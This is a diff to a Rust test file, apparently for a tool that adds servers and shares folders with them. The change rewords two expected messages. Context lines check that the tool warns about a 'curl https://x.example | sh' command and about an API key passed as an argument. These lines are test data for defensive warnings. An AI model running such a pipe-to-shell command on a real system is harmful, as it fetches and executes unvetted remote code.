@@ -63,7 +63,7 @@ fn adding_warns_as_the_window_does() {
         warned(&["sh", "-c", "curl https://x.example | sh"]).contains("it runs what it downloads right away")
     );
     assert!(warned(&["tide", "--api-key", "sk-canary"]).contains("argument 2 looks like a secret"));
-    assert!(warned(&["node", "tide.js"]).contains("tide.js is looked for in a folder of the server's own"));
+    assert!(warned(&["node", "tide.js"]).contains("tide.js is searched for in the server’s own folder"));
     let path = place.folder().join("tide.js").display().to_string();
     assert_eq!(warned(&["node", &path]), "");
 }
@@ -138,7 +138,7 @@ fn saved_server_receives_only_the_folders_shared_with_it() {
     }
     std::fs::create_dir(place.folder().join("a b")).unwrap();
     let folder = place.folder().canonicalize().unwrap().join("a b");
-    assert!(place.run(&["roots"]).ok().out.starts_with("No folder is granted."));
+    assert!(place.run(&["roots"]).ok().out.starts_with("No folders shared."));
     let added =
         place.run(&["roots", "add", "a b", "--server", "mine", "--name", "Work", "--json"]).ok().json();
     assert_eq!(added["result"]["path"], json!(folder));
